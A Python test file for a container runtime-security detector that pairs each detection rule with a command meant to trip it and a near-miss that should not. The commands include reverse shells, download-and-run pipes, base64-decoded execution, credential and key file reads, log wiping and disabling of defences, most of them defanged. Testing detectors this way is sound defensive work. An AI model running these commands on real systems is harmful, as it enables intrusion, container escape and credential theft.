#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The default rules on what root's risks are: an act that raises each, and one that must not."""

import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))

import acts  # noqa: E402
import suite  # noqa: E402
from acts import read, write  # noqa: E402

NOTHING = ["/usr/bin/mytool"]
GCC = "/tools/x86_64-linux-gnu-gcc-12"
# The kernel's own files, mounted where nobody looks for them.
TRACE = ["act_open", "--mount", "tracefs", "/trace", "openat", "r", "/trace/README"]


def sh(line):
    return ["sh", "-c", line + "; act_id one"]


def there(path):
    """Reads a file that is made for it."""
    return f"mkdir -p {os.path.dirname(path)}; echo x >{path}; act_open openat r {path}"


# The detection; where and the act that raises it; where and an act that comes near and does not.
TABLE = [
    ("runtime-binary-written", "strong", write("/data/runc"), "strong", write("/data/run")),
    ("runtime-binary-written", "strong", write("/data/crun"), "c", write("/opt/crun")),
    ("runtime-binary-run", "c", "/usr/local/bin/again.sh", "c", ["/usr/local/bin/script.sh"]),
    ("workdir-escape", "c", [*NOTHING, "/proc/self/fd/8/../../etc"],
     "c", [*NOTHING, "/proc/self/fd/8"]),
    ("workdir-escape", "c", [*NOTHING, "-C", "/proc/1/cwd/.."], "c", [*NOTHING, "/proc/1/cwd"]),
    ("host-entered", "c", ["/tools/nsenter", "-t", "1", "-m"],
     "c", ["/tools/nsenter", "-t", "12", "-m"]),
    ("host-entered", "c", ["/tools/nsenter", "--mount=/proc/1/ns/mnt"],
     "c", ["/tools/nsenter", "--mount=/proc/7/ns/mnt"]),
    ("attack-tool-run", "c", ["/tools/amicontained"], "c", [*NOTHING, "amicontained"]),
    ("attack-tool-run", "c", ["/tools/cdk", "evaluate"], "c", ["/tools/cdk", "deploy"]),
    ("miner-run", "c", ["/tools/xmrig"], "c", [*NOTHING, "xmrig"]),
    ("miner-run", "c", [*NOTHING, "-o", "stratum+tcp://pool:3333"],
     "c", [*NOTHING, "-o", "tcp://pool:3333"]),
    ("reverse-shell", "c", ["/tools/nc", "-e", "/bin/sh", "h", "1"],
     "c", ["/tools/nc", "-z", "db", "5432"]),
    ("reverse-shell", "c", ["/tools/socat", "tcp:h:1", "exec:sh,pty"],
     "c", ["/tools/socat", "-", "tcp:h:1"]),
    ("reverse-shell", "c", sh("false && bash -i >/dev/tcp/h/1 0>&1"), "c", sh(": bash -i")),
    ("reverse-shell", "c", ["act_exec", "net", "/bin/sh", "-c", "exec /bin/act_id"],
     "c", ["act_exec", "net", "/bin/act_id"]),
    ("download-run", "c", sh("false && curl h | sh"), "c", sh("false && curl h | sort")),
    ("download-run", "c", sh("false && eval \"$(wget -qO- h)\""),
     "c", sh("false && x=$(wget -qO- h)")),
    # Typed into a shell: no program is told of the other but by the pipe.
    ("download-run", "c", "busybox wget -qO- http://127.0.0.1:1/x | sh",
     "c", "busybox wget -qO- http://127.0.0.1:1/x | sh -c 'read x'"),
    ("download-run", "c", "busybox wget -qO- http://127.0.0.1:1/x | tee /opt/x | busybox ash -s -- y",
     "c", "busybox wget -qO- http://127.0.0.1:1/x | tee /opt/x | sort"),
    ("reverse-shell", "c", "mkfifo /opt/f; /tools/nc h 1 </dev/null >/opt/f & sh </opt/f 2>&1 | tee /opt/x",
     "c", "/tools/nc h 1 </dev/null | sh -c 'cat >/dev/null'"),
    ("reverse-shell", "c", "echo true | sh -i 2>&1 | /tools/socat - tcp:h:1", "c", "echo true | sh | cat"),
    ("scanner-run", "c", ["/tools/nmap", "h"], "c", [*NOTHING, "nmap"]),
    ("scanner-run", "c", [*NOTHING, "-sS", "10.0.0.0/8"], "c", [*NOTHING, "-s", "10.0.0.0/8"]),
    ("kernel-module", "c", ["/tools/insmod", "x"], "c", ["/tools/modprobe", "-n", "x"]),
    ("kernel-module", "c", ["act_open", "openat", "wrc", "/tmp/x.ko"],
     "c", ["act_open", "openat", "wrc", "/tmp/x.kt"]),
    ("disk-tool-run", "c", ["/tools/debugfs", "x"], "c", [*NOTHING, "debugfs"]),
    ("disk-tool-run", "c", ["/tools/mknod", "/x", "b", "8", "0"],
     "c", ["/tools/mknod", "/x", "p"]),
    ("process-memory-written", "strong", write("/proc/1/mem", "w"),
     "strong", write("/proc/self/mem", "w")),
    ("process-memory-read", "strong", read("/proc/1/mem"), "strong", read("/proc/self/mem")),
    ("cluster-credentials-read", "strong", read("/mnt/kubernetes/admin.conf"),
     "strong", read("/mnt/kubernetes/ca.crt")),
    ("environ-read", "strong", read("/proc/1/environ"), "strong", read("/proc/self/environ")),
    ("proc-root-asked", "c", [*NOTHING, "/proc/1/root/etc"], "c", [*NOTHING, "/proc/17/root"]),
    ("proc-root-asked", "c", [*NOTHING, "/proc/1/cwd/etc"], "c", [*NOTHING, "/proc/17/cwd"]),
    ("database-password-read", "c", read("/root/.mylogin.cnf"), "c", read("/app/database.yml")),
    ("database-password-read", "c", "sh -c 'read x </app/database.yml'",
     "c", "sh -c 'read x </app/data.txt'"),
    ("tunnel-run", "c", ["/tools/chisel", "client"], "c", [*NOTHING, "chisel"]),
    ("tunnel-run", "c", ["/tools/ssh", "-N", "-R", "1:h:2", "u@h"], "c", ["/tools/ssh", "u@h"]),
    ("crontab-run", "c", ["/tools/crontab", "-"], "c", ["/tools/crontab", "-l"]),
    ("suid-bit-set", "c", ["/tools/chmod", "u+s", "/x"], "c", ["/tools/chmod", "u+x", "/x"]),
    ("suid-bit-set", "c", ["/tools/chmod", "4755", "/x"], "c", ["/tools/chmod", "0755", "/x"]),
    ("suid-bit-set", "c", ["/tools/setcap", "cap_setuid=ep", "/x"],
     "c", ["/tools/setcap", "-r", "/x"]),
    ("sgid-bit-set", "c", "echo >/opt/sg; chmod 2755 /opt/sg", "c", "mkdir -p /opt/sd; chmod 2775 /opt/sd"),
    ("sgid-bit-set", "c", "echo >/opt/sg; cd /opt; chmod g+s,a+x sg; cd /", "c", "echo >/opt/sh; chmod 755 /opt/sh"),
    ("app-changed", "c", "sh -c 'echo >/app/new.py'", "c", write("/app/other.py")),
    ("app-changed", "c", "sh -c 'echo >/app/new.js'", "c", "sh -c 'echo >/app/new.log'"),
    ("compiler-run", "c", ["/tools/gcc", "x.c"], "c", [*NOTHING, "x.c"]),
    ("compiler-run", "c", [GCC, "x.c"], "c", ["/tools/ssh", "gcc"]),
    ("cluster-client-run", "c", ["/tools/kubectl", "get", "pods"], "c", [*NOTHING, "kubectl"]),
    ("namespace-tool-run", "c", ["/tools/unshare", "-m"], "c", [*NOTHING, "unshare"]),
    # By another user, who is root in it.
    ("user-namespace-made", "user", "busybox unshare -U true", "user", "busybox unshare -m true"),
    ("user-namespace-made", "user", ["act_call", "clone", "0x10000011", "0"], "user", ["act_call", "clone", "17", "0"]),
    # By its own name, not that of the file that it was bound over; and as the reader of a script.
    ("user-added", "strong", "echo >/opt/tool; mount -o bind /usr/sbin/adduser /opt/tool; /opt/tool -h; umount /opt/tool",
     "strong", "mount -o bind /bin/act_id /opt/tool; /opt/tool one; umount /opt/tool"),
    ("cluster-client-run", "c", "printf '#!/tools/kubectl get\\n' >/opt/w; chmod +x /opt/w; /opt/w",
     "c", "printf '#!/bin/sh\\n' >/opt/kubectl.sh; sh /opt/kubectl.sh"),
    ("history-read", "c", there("/root/.bash_history"), "c", there("/root/history")),
    ("exec-tmp", "c", "echo >/tmp/x.awk; busybox awk -f /tmp/x.awk", "c", "busybox awk {print} /tmp/x.awk"),
    ("disk-tool-run", "strong", "mknod /tmp/lc c 10 237 2>/dev/null; read x </tmp/lc", "strong", "read x </dev/null"),
    ("kernel-log-read", "c", "mknod /dev/kmsg c 1 11 2>/dev/null; act_open openat r /dev/kmsg",
     "c", read("/dev/zero")),
    ("kernel-log-read", "c", "act_open openat r /proc/kmsg", "c", read("/proc/version")),
    ("token-read", "c", there("/home/eve/.kube/config"), "c", there("/home/eve/config")),
    ("private-key-read", "c", there("/root/.ssh/github"), "c", there("/root/.ssh/github.pub")),
    # In the folder of any home, at any depth; the kernel asks for no more than the folder's name.
    ("private-key-read", "c", there("/var/lib/ci/.ssh/deploy"), "c", there("/var/lib/ci/ssh/deploy")),
    ("private-key-read", "c", there("/home/eve/.ssh/work/prod"), "c", there("/home/eve/.ssh/config.d/prod")),
    ("private-key-read", "c", "mkdir -p /opt/k/.s; echo x >/opt/k/.s/prod; act_open openat r /opt/k/.s/prod; "
     "mv /opt/k/.s /opt/k/.ssh; act_open openat r /opt/k/.ssh/prod", "c", there("/opt/k/ssh.d/prod")),
    ("ssh-config-written", "c", "mkdir -p /var/lib/git/.ssh; echo >/var/lib/git/.ssh/config",
     "c", "mkdir -p /var/lib/git/ssh; echo >/var/lib/git/ssh/config"),
    # Calls on files by a plain name, and by a path.
    ("ssh-config-written", "c", "mkdir -p /var/lib/p/.ssh; cd /var/lib/p/.ssh; ln -s /x k1; rm -f k1; cd /",
     "c", "mkdir -p /var/lib/p/ssh; cd /var/lib/p/ssh; ln -s /x k1; rm -f k1; cd /"),
    ("ssh-config-written", "c", "mkdir -p /var/lib/p/.ssh/d; echo >/opt/key; mv /opt/key /var/lib/p/.ssh/d/k2",
     "c", "mkdir -p /var/lib/p/ssh/d; echo >/opt/key; mv /opt/key /var/lib/p/ssh/d/k2"),
    ("ssh-config-written", "c", "mkdir -p /var/lib/p/q /var/lib/p/.ssh; ln -s ../.ssh /var/lib/p/q/l; ln -s /x /var/lib/p/q/l/k3",
     "c", "mkdir -p /var/lib/p/r /var/lib/p/ssh; ln -s ../ssh /var/lib/p/r/l; ln -s /x /var/lib/p/r/l/k3"),
    ("watched-renamed", "c", "mkdir -p /var/lib/vm/.ssh; echo >/var/lib/vm/.ssh/k; ln /var/lib/vm/.ssh/k /opt/k2",
     "c", "mkdir -p /var/lib/vm; echo >/var/lib/vm/k; ln /var/lib/vm/k /opt/k3"),
    # Who calls himself a package tool, or no shell, by /proc/self/comm.
    ("program-replaced", "c", "sh -c 'echo dpkg >/proc/self/comm; read x </proc/self/comm; echo >/usr/sbin/evil1'",
     "c", "sh -c 'echo dpkg >/proc/self/comm; echo >/opt/evil'"),
    ("program-replaced", "c", "echo >/opt/any; ln -sf /opt/any /opt/apk; sh -c 'echo apk >/proc/$$/comm; mv /opt/apk /usr/sbin/evil2; "
     "echo >/usr/sbin/evil2'", "c", "sh -c 'echo apk >/proc/$$/comm'"),
    ("traces-removed", "c", "echo >/var/log/wtmp; sh -c 'echo logrotate >/proc/$$/comm; : >/var/log/wtmp'",
     "c", "sh -c 'echo logrotate >/proc/$$/comm; : >/opt/wtmp'"),
    ("database-password-read", "c", "sh -c 'echo kworker >/proc/$$/comm; read x </app/database.yml'",
     "c", "sh -c 'echo kworker >/proc/$$/comm; read x </app/data.txt'"),
    ("token-read", "c", there("/home/eve/.aws/sso/cache/a.json"), "c", there("/home/eve/aws/cache/a.json")),
    ("token-read", "c", there("/srv/ci/.kube/prod.yaml"), "c", there("/srv/ci/.kube/cache/http/a")),
    ("token-read", "c", there("/home/eve/.azure/msal_token_cache.bin"), "c", there("/home/eve/azure.bin")),
    ("exec-dropped", "c", "printf '#!/bin/sh\\nact_id one\\n' >/opt/new.sh; chmod 755 /opt/new.sh; /opt/new.sh",
     "c", ["/usr/local/bin/script.sh"]),
    ("exec-dropped", "c", "printf '#!/bin/sh\\nact_id one\\n' >/dev/shm/.n; chmod 755 /dev/shm/.n; ln -sf /dev/shm/.n /opt/to-n; /opt/to-n",
     "c", "ln -sf /usr/local/bin/script.sh /opt/to-s; /opt/to-s"),
    ("mounted-over", "strong", "mkdir -p /srv/m/.ssh; mount -t tmpfs none /srv/m/.ssh; umount /srv/m/.ssh",
     "strong", "mkdir -p /srv/m/ssh; mount -t tmpfs none /srv/m/ssh; umount /srv/m/ssh"),
    ("shadow-read", "c", there("/var/backups/shadow.bak"), "c", there("/var/backups/shadow.css")),
    ("debugfs-read", "strong", TRACE, "strong", read("/sys/kernel/notes")),
    ("token-read", "c", there("/root/.npmrc"), "c", there("/root/npmrc")),
    ("token-read", "c", there("/home/eve/.aws/config"), "c", there("/home/eve/config")),
    ("private-key-read", "c", there("/etc/wireguard/wg0.conf"), "c", there("/srv/wg0.conf")),
    ("private-key-read", "c", there("/var/lib/kubelet/pki/kubelet-client-current.pem"), "c",
     there("/var/lib/kubelet/pki/kubelet.crt")),
    ("private-key-read", "c", there("/host/var/lib/kubelet/pki/kubelet-server-2026-01-01-00-00-00.pem"), "c",
     there("/srv/pki/kubelet-servers.pem")),
    ("etcd-read", "c", there("/var/lib/etcd/member/snap/db"), "c", there("/srv/member/db")),
    ("etcd-read", "c", "mkdir -p /data/member/wal; echo x >/data/member/wal/0.wal; cd /data/member; act_open openat r wal/0.wal",
     "c", there("/data/wal/0.wal")),
    ("history-read", "c", there("/root/.psql_history"), "c", there("/root/psql")),
    ("package-database-written", "c", "mkdir -p /var/lib/dpkg; echo >/opt/s; mv /opt/s /var/lib/dpkg/status",
     "c", "echo >/opt/s; mv /opt/s /opt/status"),
    ("package-database-written", "c", "mkdir -p /opt/x.dist-info; echo >/opt/x.dist-info/t; mv /opt/x.dist-info/t "
     "/opt/x.dist-info/INSTALLER", "c", "echo >/opt/INSTALLER"),
    ("package-database-written", "c", "mkdir -p /opt/node_modules; echo >/opt/node_modules/.package-lock.json",
     "c", "echo >/opt/package-lock.json"),
    ("program-replaced", "c", "mkdir -p /usr/lib/python3/dist-packages; echo >/usr/lib/python3/dist-packages/x.pth",
     "c", "echo >/opt/x.pth"),
    ("traces-removed", "c", "echo >/root/.histfile; mv /root/.histfile /opt/x", "c", "echo >/root/h; mv /root/h /opt/x"),
    ("package-manager", "c", ["/tools/cargo", "+nightly", "install", "x"], "c", ["/tools/cargo", "+nightly", "build"]),
    ("environ-read", "c", "sleep 9 & sh -c \"read -r x </proc/$!/environ\"; kill $!",
     "c", "sh -c 'cat /proc/$$/environ >/dev/null; true'"),
    ("mounted-over", "strong", "echo >/tmp/p; mount -o bind /tmp/p /etc/passwd; umount /etc/passwd",
     "strong", "echo >/tmp/p; echo >/tmp/q; mount -o bind /tmp/p /tmp/q; umount /tmp/q"),
    ("mounted-over", "strong", "mount -t tmpfs none /usr/sbin; umount /usr/sbin", "strong",
     "mkdir -p /tmp/etc; mount -t tmpfs none /tmp/etc; umount /tmp/etc"),
    # What a shell reads as its input, from memory or from where things are dropped.
    ("exec-memfd", "c", ["act_exec", "input", "/usr/local/bin/input.sh", "/bin/sh"],
     "c", ["act_exec", "input", "/usr/local/bin/input.sh", *NOTHING, "one"]),
    ("exec-tmp", "c", "echo true >/tmp/in; sh </tmp/in", "c", "sort </tmp/in; sh </usr/local/bin/input.sh"),
    ("exec-tmp", "c", "echo true >/dev/shm/in; cd /dev/shm; busybox ash -s x <in", "c", "echo true >/opt/in; sh </opt/in"),
    ("decoded-run", "c", "echo dHJ1ZQo= | base64 -d | sh", "c", "echo dHJ1ZQo= | base64 -d | sort"),
    ("decoded-run", "c", "sh -c 'eval $(echo dHJ1ZQo= | base64 -d)'", "c", "sh -c 'x=$(echo dHJ1ZQo= | base64 -d)'"),
    ("defence-ended", "c", "busybox pkill -9 falco-of-nobody", "c", "busybox pkill -9 nginx-of-nobody"),
    ("defence-ended", "c", "cp /usr/bin/mytool /opt/iptables; /opt/iptables -t nat -F", "c", "/opt/iptables -t nat -F DOCKER"),
    ("startup-written", "c", "mkdir -p /srv/r/.git/hooks; echo >/srv/r/.git/hooks/pre-commit",
     "c", "echo >/srv/r/.git/hooks/pre-commit.sample"),
    ("startup-written", "c", "mkdir -p /usr/lib/udev/rules.d; echo >/opt/u; mv /opt/u /usr/lib/udev/rules.d/x.rules",
     "c", "echo >/opt/u; mv /opt/u /opt/u.rules"),
    ("traces-removed", "c", "echo >>/var/log/btmp; truncate -s 0 /var/log/btmp",
     "c", "echo >>/opt/btmp; truncate -s 0 /opt/btmp; truncate -s 9 /var/log/btmp"),
    # Right below the root: the name, and not the root, is what it is about.
    ("program-replaced", "c", "echo >/entrypoint.sh; rm /entrypoint.sh", "c", "echo >/plain.sh; rm /plain.sh"),
    ("program-replaced", "c", "ln -s /bin/true /init; rm /init", "c", "ln -s /bin/true /initial; rm /initial"),
    ("download-tool-run", "c", ["/tools/curl", "https://h/x"],
     "c", ["/tools/curl", "http://localhost/health"]),
]


@suite.cases(*[(f"{row[0]} {number}", *row) for number, row in enumerate(TABLE)])
def test_rule(w, _label, *row):
    acts.check(w, *row)


def test_dropped_in_volume(w):
    if w.strong.sh("busybox stat -f -c %T /data | busybox grep -q -E 'tmpfs|ramfs'")[0] == 0:
        raise suite.Skip("the volume lies in memory, where another rule (exec-tmp) tells of it")
    acts.check(w, "exec-dropped", "strong", ["act_exec", "copy", "/bin/act_id", "/data/act_dropped"],
               "strong", ["/bin/act_id"])


if __name__ == "__main__":
    suite.main(acts.with_mounts)
